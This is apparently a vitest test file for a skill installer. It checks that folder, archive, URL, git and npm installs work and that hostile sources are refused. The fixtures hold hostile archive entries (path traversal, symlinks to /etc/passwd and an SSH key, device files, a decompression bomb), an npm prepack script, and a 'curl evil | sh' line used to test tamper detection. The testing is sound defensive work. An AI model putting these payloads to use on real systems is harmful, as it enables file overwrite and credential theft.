import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { OpenclawError } from '../../src/errors.js';
import { discoverSkills, skillRoots } from '../../src/skills/discovery.js';
import { installSkill, type InstallOptions } from '../../src/skills/install/install.js';
import { SizeBudget } from '../../src/skills/install/safety.js';
import { parseSource } from '../../src/skills/install/source.js';
import { planSkillCopy } from '../../src/skills/install/tree.js';
import { removeSkill, verifySkills } from '../../src/skills/installed.js';
import { readSkillLock } from '../../src/skills/lock.js';
import { tarball, VALID_SKILL_MD, zipArchive, type TarEntry, type ZipEntry } from '../fixtures/skills/archives.js';
import { tempDir } from '../helpers/cli.js';

let root: ReturnType<typeof tempDir>;
let home: string;
let skillsDir: string;
beforeEach(() => {
  root = tempDir('openclaw-install-');
  home = join(root.path, 'home');
  skillsDir = join(home, 'skills');
  mkdirSync(join(root.path, 'outside'), { recursive: true });
});
afterEach(() => root.cleanup());

const install = (source: string, options: InstallOptions = {}) => installSkill(source, { home, cwd: root.path, ...options });

async function failure(promise: Promise<unknown>): Promise<OpenclawError> {
  try {
    await promise;
  } catch (error) {
    if (error instanceof OpenclawError) return error;
    throw error;
  }
  throw new Error('expected the install to fail');
}

/** Every path under the temp root, with file sizes: what a refused install must leave as it was. */
function snapshot(): string[] {
  const paths: string[] = [];
  const visit = (dir: string) => {
    for (const name of readdirSync(dir).sort()) {
      const path = join(dir, name);
      const stat = lstatSync(path);
      paths.push(`${path.slice(root.path.length)}${stat.isFile() ? ` ${stat.size}` : stat.isDirectory() ? '/' : ' link'}`);
      if (stat.isDirectory()) visit(path);
    }
  };
  visit(root.path);
  return paths;
}

function writeFiles(dir: string, files: Record<string, string>): string {
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), content);
  }
  return dir;
}

function writeArchive(name: string, content: Buffer): string {
  const path = join(root.path, name);
  writeFileSync(path, content);
  return path;
}

/** Installs a hostile source and checks that nothing was written anywhere: the tree is as it was, plus at most an empty skills folder. */
async function expectRefused(source: string, reason: RegExp): Promise<void> {
  const before = snapshot();
  const error = await failure(install(source));
  expect(error.code).toBe('skill_unsafe');
  expect(error.message).toMatch(reason);
  expect(error.hint).toContain('Nothing was installed');
  expect(snapshot().filter((path) => path !== '/home/' && path !== '/home/skills/')).toEqual(before.filter((path) => path !== '/home/' && path !== '/home/skills/'));
  expect(existsSync(skillsDir) ? readdirSync(skillsDir) : []).toEqual([]);
}

describe('install from a folder', () => {
  it('copies the skill, names it after its frontmatter and records every file', async () => {
    const source = writeFiles(join(root.path, 'src', 'my-folder'), {
      'SKILL.md': VALID_SKILL_MD('greeter'),
      'scripts/run.sh': '#!/bin/sh\necho hi\n',
      'references/guide.md': '# Guide\n',
    });
    chmodSync(join(source, 'scripts/run.sh'), 0o755);
    const result = await install(source);
    expect(result.name).toBe('greeter');
    expect(result.dir).toBe(join(skillsDir, 'greeter'));
    expect(result.warnings).toEqual(['name "greeter" does not match its folder "my-folder"', 'installed as "greeter"']);
    expect(readFileSync(join(result.dir, 'references/guide.md'), 'utf8')).toBe('# Guide\n');
    expect(statSync(join(result.dir, 'scripts/run.sh')).mode & 0o111).not.toBe(0);
    const entry = readSkillLock(skillsDir).skills.greeter;
    expect(entry).toMatchObject({ source, kind: 'folder' });
    expect(Object.keys(entry.files).sort()).toEqual(['SKILL.md', 'references/guide.md', 'scripts/run.sh']);
    expect(entry.files['SKILL.md']).toMatch(/^[0-9a-f]{64}$/);
    expect(entry.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(readdirSync(skillsDir).sort()).toEqual(['greeter', 'lock.json']);
  });

  it('is found by discovery once installed', async () => {
    await install(writeFiles(join(root.path, 'src', 'greeter'), { 'SKILL.md': VALID_SKILL_MD('greeter') }));
    const catalog = discoverSkills({ roots: skillRoots(join(root.path, 'cwd'), home).filter((entry) => entry.scope !== 'bundled') });
    expect(catalog.skills.map((skill) => [skill.name, skill.scope])).toEqual([['greeter', 'user']]);
  });

  it('refuses to replace an installed skill without --force, and replaces it with it', async () => {
    const source = writeFiles(join(root.path, 'src', 'greeter'), { 'SKILL.md': VALID_SKILL_MD('greeter', 'first') });
    await install(source);
    writeFileSync(join(source, 'SKILL.md'), VALID_SKILL_MD('greeter', 'second'));
    const error = await failure(install(source));
    expect(error.code).toBe('skill_exists');
    expect(error.exitCode).toBe(2);
    expect(readFileSync(join(skillsDir, 'greeter', 'SKILL.md'), 'utf8')).toContain('first');
    const result = await install(source, { force: true });
    expect(result.replaced).toBe(true);
    expect(readFileSync(join(skillsDir, 'greeter', 'SKILL.md'), 'utf8')).toContain('second');
    expect(readdirSync(skillsDir).sort()).toEqual(['greeter', 'lock.json']);
  });

  it('copies a link that stays inside the skill as the file it points to', async () => {
    const source = writeFiles(join(root.path, 'src', 'linked'), { 'SKILL.md': VALID_SKILL_MD('linked'), 'docs/real.md': 'real\n' });
    symlinkSync('docs/real.md', join(source, 'alias.md'));
    const result = await install(source);
    expect(lstatSync(join(result.dir, 'alias.md')).isFile()).toBe(true);
    expect(readFileSync(join(result.dir, 'alias.md'), 'utf8')).toBe('real\n');
  });

  it('refuses a link that leaves the skill', async () => {
    writeFileSync(join(root.path, 'outside', 'secret.txt'), 'secret');
    const source = writeFiles(join(root.path, 'src', 'leaky'), { 'SKILL.md': VALID_SKILL_MD('leaky') });
    symlinkSync(join(root.path, 'outside', 'secret.txt'), join(source, 'secret.txt'));
    await expectRefused(source, /link "secret.txt" points outside the skill/);
  });

  it('refuses a link loop', async () => {
    const source = writeFiles(join(root.path, 'src', 'loop'), { 'SKILL.md': VALID_SKILL_MD('loop') });
    symlinkSync('.', join(source, 'again'));
    await expectRefused(source, /loop/);
  });

  it('refuses a named pipe', async () => {
    const source = writeFiles(join(root.path, 'src', 'piped'), { 'SKILL.md': VALID_SKILL_MD('piped') });
    execFileSync('mkfifo', [join(source, 'pipe')]);
    await expectRefused(source, /"pipe" is a named pipe/);
  });

  it('refuses a file over the size limit', async () => {
    const source = writeFiles(join(root.path, 'src', 'big'), { 'SKILL.md': VALID_SKILL_MD('big') });
    writeFileSync(join(source, 'data.bin'), Buffer.alloc(11 * 1024 * 1024));
    await expectRefused(source, /"data.bin" is 11.0 MiB, over the 10.0 MiB limit/);
  });

  it('refuses a folder over the total size or file count limits', () => {
    const source = writeFiles(join(root.path, 'src', 'many'), { 'SKILL.md': VALID_SKILL_MD('many'), 'a.txt': 'x'.repeat(600), 'b.txt': 'y'.repeat(600) });
    expect(() => planSkillCopy(source, { fileBytes: 1000, totalBytes: 1000, files: 100 })).toThrow(/more than 1000 B in total/);
    expect(() => planSkillCopy(source, { fileBytes: 1000, totalBytes: 10_000, files: 2 })).toThrow(/more than 2 files/);
    expect(() => new SizeBudget({ fileBytes: 10, totalBytes: 100, files: 10 }).add('x', 11)).toThrow(/over the 10 B limit/);
  });

  it('clears staging folders abandoned by a killed install', async () => {
    mkdirSync(join(skillsDir, '.staging-abandoned', 'skill'), { recursive: true });
    const anHourAgo = new Date(Date.now() - 2 * 60 * 60_000);
    utimesSync(join(skillsDir, '.staging-abandoned'), anHourAgo, anHourAgo);
    await install(writeFiles(join(root.path, 'src', 'fresh'), { 'SKILL.md': VALID_SKILL_MD('fresh') }));
    expect(readdirSync(skillsDir).sort()).toEqual(['fresh', 'lock.json']);
  });

  it('leaves out .git', async () => {
    const source = writeFiles(join(root.path, 'src', 'gitty'), { 'SKILL.md': VALID_SKILL_MD('gitty'), '.git/config': '[core]\n' });
    const result = await install(source);
    expect(existsSync(join(result.dir, '.git'))).toBe(false);
  });
});

describe('choosing a skill in a source', () => {
  const multi = () =>
    writeFiles(join(root.path, 'src', 'collection'), {
      'skills/alpha/SKILL.md': VALID_SKILL_MD('alpha'),
      'skills/beta/SKILL.md': VALID_SKILL_MD('beta'),
      'skills/beta/nested/SKILL.md': VALID_SKILL_MD('beta-part'),
      'README.md': '# Collection\n',
    });

  it('lists the skills and exits 2 when the source holds several and none is named', async () => {
    const error = await failure(install(multi()));
    expect(error.exitCode).toBe(2);
    expect(error.message).toContain('holds 2 skills; choose one with --name');
    expect(error.hint).toMatch(/alpha .*\(skills\/alpha\)/);
    expect(error.hint).toMatch(/beta .*\(skills\/beta\)/);
  });

  it('installs the one named with --name, with the SKILL.md files nested inside it', async () => {
    const result = await install(multi(), { name: 'beta' });
    expect(result.name).toBe('beta');
    expect(existsSync(join(result.dir, 'nested', 'SKILL.md'))).toBe(true);
    expect(readSkillLock(skillsDir).skills.beta.path).toBe('skills/beta');
  });

  it('looks inside the folder given with --path', async () => {
    expect((await install(multi(), { path: 'skills/alpha' })).name).toBe('alpha');
  });

  it('exits 2 for a name the source does not hold', async () => {
    const error = await failure(install(multi(), { name: 'gamma' }));
    expect(error.exitCode).toBe(2);
    expect(error.message).toContain('no skill named gamma');
  });

  it('refuses a --path that leaves the source', async () => {
    expect((await failure(install(multi(), { path: '../outside' }))).exitCode).toBe(2);
  });

  it('exits 2 when there is no SKILL.md at all', async () => {
    const error = await failure(install(writeFiles(join(root.path, 'src', 'empty'), { 'README.md': 'x' })));
    expect(error.code).toBe('skill_not_found');
    expect(error.exitCode).toBe(2);
  });

  it('names the file and line of an invalid SKILL.md', async () => {
    const source = writeFiles(join(root.path, 'src', 'broken'), { 'SKILL.md': '---\nname: broken\ndescription: [oops\nlicense: MIT\n---\n' });
    const error = await failure(install(source));
    expect(error.code).toBe('skill_invalid');
    expect(error.message).toMatch(/SKILL\.md:\d+ has invalid YAML/);
    expect(existsSync(join(skillsDir, 'broken'))).toBe(false);
  });

  it('names a SKILL.md without frontmatter', async () => {
    const error = await failure(install(writeFiles(join(root.path, 'src', 'plain'), { 'SKILL.md': '# Title only\n' })));
    expect(error.message).toContain('SKILL.md:1 has no YAML frontmatter');
  });
});

describe('install from an archive', () => {
  const skillEntries = (prefix: string): TarEntry[] => [
    { path: `${prefix}/`, type: 'dir' },
    { path: `${prefix}/SKILL.md`, content: VALID_SKILL_MD('packed') },
    { path: `${prefix}/scripts/go.sh`, content: '#!/bin/sh\n', mode: 0o755 },
  ];

  it('installs from a .tar.gz', async () => {
    const result = await install(writeArchive('packed.tar.gz', tarball(skillEntries('packed'))));
    expect(result.name).toBe('packed');
    expect(statSync(join(result.dir, 'scripts/go.sh')).mode & 0o100).not.toBe(0);
    expect(readSkillLock(skillsDir).skills.packed.kind).toBe('archive');
  });

  it('installs from a .tgz whose root is the skill', async () => {
    const result = await install(writeArchive('packed.tgz', tarball([{ path: 'SKILL.md', content: VALID_SKILL_MD('packed') }])));
    expect(result.warnings).toEqual([]);
  });

  it('installs from a .zip, keeping a link inside the skill as a file', async () => {
    const zip = zipArchive([
      { path: 'packed/', content: '' },
      { path: 'packed/SKILL.md', content: VALID_SKILL_MD('packed') },
      { path: 'packed/docs/a.md', content: 'A\n' },
      { path: 'packed/b.md', symlink: 'docs/a.md' },
    ]);
    const result = await install(writeArchive('packed.zip', zip));
    expect(readFileSync(join(result.dir, 'b.md'), 'utf8')).toBe('A\n');
  });

  it('reports an archive it cannot read', async () => {
    const error = await failure(install(writeArchive('junk.tar.gz', Buffer.from('this is not an archive at all'.repeat(40)))));
    expect(error.code).toBe('skill_archive_invalid');
  });

  describe('refuses hostile tar archives and writes nothing', () => {
    const cases: Array<[string, TarEntry[], RegExp]> = [
      ['a ".." path', [...skillEntries('s'), { path: 's/../../outside/pwned.txt', content: 'pwned' }], /has a "\.\." path segment/],
      ['an absolute path', [...skillEntries('s'), { path: `/tmp/openclaw-pwned-${process.pid}`, content: 'pwned' }], /has an absolute path/],
      ['a link leaving the archive', [...skillEntries('s'), { path: 's/passwd', type: 'symlink', linkpath: '../../../../etc/passwd' }], /link "s\/passwd" points outside the skill/],
      ['an absolute link', [...skillEntries('s'), { path: 's/out', type: 'symlink', linkpath: '/tmp' }], /points to the absolute path/],
      [
        'a write through a link',
        [...skillEntries('s'), { path: 's/out', type: 'symlink', linkpath: 'scripts' }, { path: 's/out/evil.sh', content: 'x' }],
        /lies inside the link "s\/out"/,
      ],
      ['a hard link to outside', [...skillEntries('s'), { path: 's/hard', type: 'hardlink', linkpath: '../outside/secret' }], /has a "\.\." path segment/],
      ['a device file', [...skillEntries('s'), { path: 's/tty', type: 'chardev' }], /is a device file/],
      ['a named pipe', [...skillEntries('s'), { path: 's/fifo', type: 'fifo' }], /is a named pipe/],
      ['a duplicate entry', [...skillEntries('s'), { path: 's/SKILL.md', content: VALID_SKILL_MD('other') }], /appears twice/],
    ];
    it.each(cases)('%s', async (_label, entries, reason) => {
      await expectRefused(writeArchive('hostile.tar.gz', tarball(entries)), reason);
      expect(existsSync(`/tmp/openclaw-pwned-${process.pid}`)).toBe(false);
    });

    it('a file over the size limit', async () => {
      const entries = [...skillEntries('s'), { path: 's/huge.bin', content: Buffer.alloc(10 * 1024 * 1024 + 1) }];
      await expectRefused(writeArchive('hostile.tar', tarball(entries, false)), /"s\/huge.bin" is 10.0 MiB, over the 10\.0 MiB limit/);
    });

    it('a decompression bomb', async () => {
      const entries = [...skillEntries('s'), { path: 's/zeros.bin', content: Buffer.alloc(20 * 1024 * 1024) }];
      await expectRefused(writeArchive('hostile.tar.gz', tarball(entries)), /decompression bomb/);
    });

    it('a link inside the archive that leaves the skill folder', async () => {
      const entries = [...skillEntries('s'), { path: 's/up', type: 'symlink' as const, linkpath: '..' }, { path: 'other.txt', content: 'x' }];
      await expectRefused(writeArchive('hostile.tar.gz', tarball(entries)), /link "up" points outside the skill/);
    });
  });

  describe('refuses hostile zip archives and writes nothing', () => {
    const base: ZipEntry[] = [{ path: 's/SKILL.md', content: VALID_SKILL_MD('s') }];
    const cases: Array<[string, ZipEntry[], RegExp]> = [
      ['a ".." path', [...base, { path: 's/../../outside/pwned.txt', content: 'pwned' }], /has a "\.\." path segment/],
      ['an absolute path', [...base, { path: '/tmp/pwned.txt', content: 'pwned' }], /has an absolute path/],
      ['a link leaving the skill', [...base, { path: 's/key', symlink: '../../../home/user/.ssh/id_rsa' }], /points outside the skill/],
      ['a device file', [...base, { path: 's/dev', mode: 0o020644 }], /is a device file/],
    ];
    it.each(cases)('%s', async (_label, entries, reason) => {
      await expectRefused(writeArchive('hostile.zip', zipArchive(entries)), reason);
    });
  });
});

describe('install from an https URL', () => {
  let server: Server;
  let base: string;
  beforeEach(async () => {
    const archive = tarball([{ path: 'web-skill/SKILL.md', content: VALID_SKILL_MD('web-skill') }]);
    server = createServer((request, response) => {
      if (request.url === '/web-skill.tar.gz') response.writeHead(200, { 'content-type': 'application/gzip' }).end(archive);
      else response.writeHead(404).end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterEach(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('downloads and installs an archive', async () => {
    const result = await install(`${base}/web-skill.tar.gz`);
    expect(result.name).toBe('web-skill');
    expect(readSkillLock(skillsDir).skills['web-skill']).toMatchObject({ kind: 'url', source: `${base}/web-skill.tar.gz` });
  });

  it('reports an HTTP error', async () => {
    const error = await failure(install(`${base}/missing.zip`));
    expect(error.code).toBe('download_failed');
    expect(error.message).toContain('HTTP 404');
    expect(readdirSync(skillsDir)).toEqual([]);
  });
});

describe('install from git', () => {
  const git = (cwd: string, ...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=Test', '-c', 'user.email=test@example.com', '-c', 'init.defaultBranch=main', ...args], { cwd, encoding: 'utf8', stdio: 'pipe' }).trim();

  function repository(): { bare: string; first: string; second: string } {
    const work = writeFiles(join(root.path, 'work'), {
      'skills/deploy/SKILL.md': VALID_SKILL_MD('deploy', 'Version one.'),
      'skills/lint/SKILL.md': VALID_SKILL_MD('lint'),
    });
    git(work, 'init', '--quiet');
    git(work, 'add', '.');
    git(work, 'commit', '--quiet', '-m', 'one');
    git(work, 'tag', 'v1');
    const first = git(work, 'rev-parse', 'HEAD');
    writeFileSync(join(work, 'skills/deploy/SKILL.md'), VALID_SKILL_MD('deploy', 'Version two.'));
    git(work, 'commit', '--quiet', '-am', 'two');
    const second = git(work, 'rev-parse', 'HEAD');
    const bare = join(root.path, 'skills-repo.git');
    git(root.path, 'clone', '--quiet', '--bare', work, bare);
    return { bare, first, second };
  }

  it('clones a local bare repository (a path ending in .git) and records the commit', async () => {
    const { bare, second } = repository();
    const result = await install(bare, { name: 'deploy' });
    expect(result.description).toBe('Version two.');
    expect(readSkillLock(skillsDir).skills.deploy).toMatchObject({ kind: 'git', commit: second, path: 'skills/deploy' });
    expect(existsSync(join(result.dir, '.git'))).toBe(false);
  });

  it('checks out a tag given with --ref, from a file:// URL', async () => {
    const { bare, first } = repository();
    const result = await install(`file://${bare}`, { name: 'deploy', ref: 'v1' });
    expect(result.description).toBe('Version one.');
    expect(readSkillLock(skillsDir).skills.deploy).toMatchObject({ ref: 'v1', commit: first });
  });

  it('checks out a commit given as #ref, with --path', async () => {
    const { bare, first } = repository();
    const result = await install(`${bare}#${first}`, { path: 'skills/deploy' });
    expect(result.description).toBe('Version one.');
  });

  it('reports a ref that does not exist', async () => {
    const { bare } = repository();
    const error = await failure(install(bare, { name: 'deploy', ref: 'no-such-ref' }));
    expect(error.code).toBe('git_failed');
    expect(error.message).toContain('no-such-ref');
  });
});

describe('install from npm', () => {
  function packedPackage(): string {
    const pkg = writeFiles(join(root.path, 'pkg'), {
      'SKILL.md': VALID_SKILL_MD('npm-skill'),
      'package.json': JSON.stringify({
        name: '@acme/npm-skill',
        version: '1.2.3',
        scripts: { prepack: `node -e "require('fs').writeFileSync('${join(root.path, 'outside', 'PWNED')}', '')"` },
      }),
    });
    const out = join(root.path, 'packed');
    mkdirSync(out);
    execFileSync('npm', ['pack', pkg, '--ignore-scripts', '--pack-destination', out], { cwd: root.path, stdio: 'pipe' });
    return join(out, 'acme-npm-skill-1.2.3.tgz');
  }

  it('installs a packed tarball through npm pack, recording the version', async () => {
    const result = await install(`npm:file:${packedPackage()}`);
    expect(result.name).toBe('npm-skill');
    expect(readSkillLock(skillsDir).skills['npm-skill']).toMatchObject({ kind: 'npm', version: '1.2.3' });
    expect(existsSync(join(result.dir, 'package.json'))).toBe(true);
  });

  it('runs no lifecycle script of the package', async () => {
    packedPackage();
    await install(`npm:file:${join(root.path, 'pkg')}`);
    expect(existsSync(join(root.path, 'outside', 'PWNED'))).toBe(false);
  });

  it('installs the npm tarball file directly as an archive', async () => {
    expect((await install(packedPackage())).name).toBe('npm-skill');
  });
});

describe('verify and remove', () => {
  async function installed(name: string): Promise<string> {
    return (await install(writeFiles(join(root.path, 'src', name), { 'SKILL.md': VALID_SKILL_MD(name), 'notes.md': 'notes\n' }))).dir;
  }

  it('finds installed skills unchanged', async () => {
    await installed('alpha');
    expect(verifySkills(home)).toEqual([{ name: 'alpha', dir: join(skillsDir, 'alpha'), status: 'ok', changed: [], missing: [], added: [] }]);
  });

  it('detects a tampered, a deleted and an added file', async () => {
    const dir = await installed('alpha');
    writeFileSync(join(dir, 'SKILL.md'), VALID_SKILL_MD('alpha', 'Now do something else.'));
    rmSync(join(dir, 'notes.md'));
    writeFileSync(join(dir, 'payload.sh'), 'curl evil | sh\n');
    expect(verifySkills(home)[0]).toMatchObject({ status: 'modified', changed: ['SKILL.md'], missing: ['notes.md'], added: ['payload.sh'] });
  });

  it('detects a skill folder that is gone, and one put there by hand', async () => {
    const dir = await installed('alpha');
    rmSync(dir, { recursive: true });
    writeFiles(join(skillsDir, 'manual'), { 'SKILL.md': VALID_SKILL_MD('manual') });
    expect(verifySkills(home).map((result) => [result.name, result.status])).toEqual([
      ['alpha', 'missing'],
      ['manual', 'unrecorded'],
    ]);
  });

  it('removes an installed skill and its lock entry', async () => {
    await installed('alpha');
    await installed('beta');
    expect(await removeSkill('alpha', home)).toBe(join(skillsDir, 'alpha'));
    expect(readdirSync(skillsDir).sort()).toEqual(['beta', 'lock.json']);
    expect(Object.keys(readSkillLock(skillsDir).skills)).toEqual(['beta']);
  });

  it('exits 2 when removing a skill that is not installed', async () => {
    const error = await failure(removeSkill('ghost', home));
    expect(error.exitCode).toBe(2);
    expect(error.hint).toContain('skill list');
  });
});

describe('source strings', () => {
  it('classifies each form', () => {
    const folder = writeFiles(join(root.path, 'f'), { 'SKILL.md': 'x' });
    const archive = writeArchive('a.zip', Buffer.from('PK'));
    expect(parseSource(folder)).toEqual({ kind: 'folder', path: folder });
    expect(parseSource('a.zip', root.path)).toEqual({ kind: 'archive', path: archive });
    expect(parseSource('https://example.com/x/skill.tar.gz')).toEqual({ kind: 'url', url: 'https://example.com/x/skill.tar.gz' });
    expect(parseSource('https://github.com/o/r')).toEqual({ kind: 'git', url: 'https://github.com/o/r', ref: undefined });
    expect(parseSource('https://github.com/o/r.git#v2')).toEqual({ kind: 'git', url: 'https://github.com/o/r.git', ref: 'v2' });
    expect(parseSource('https://github.com/o/r/tree/main/skills/pdf')).toEqual({ kind: 'git', url: 'https://github.com/o/r.git', ref: 'main', path: 'skills/pdf' });
    expect(parseSource('git@github.com:o/r.git')).toEqual({ kind: 'git', url: 'git@github.com:o/r.git', ref: undefined });
    expect(parseSource('npm:@acme/skill@1.0.0')).toEqual({ kind: 'npm', spec: '@acme/skill@1.0.0' });
  });

  it('refuses plain http except on loopback', () => {
    expect(() => parseSource('http://example.com/skill.zip')).toThrow(/plain http/);
    expect(parseSource('http://localhost:8080/skill.zip').kind).toBe('url');
  });

  it('exits 2 for a path that does not exist, listing the forms', () => {
    try {
      parseSource('./nowhere', root.path);
      throw new Error('expected a usage error');
    } catch (error) {
      expect((error as OpenclawError).exitCode).toBe(2);
      expect((error as OpenclawError).hint).toContain('npm:<package>');
    }
  });
});
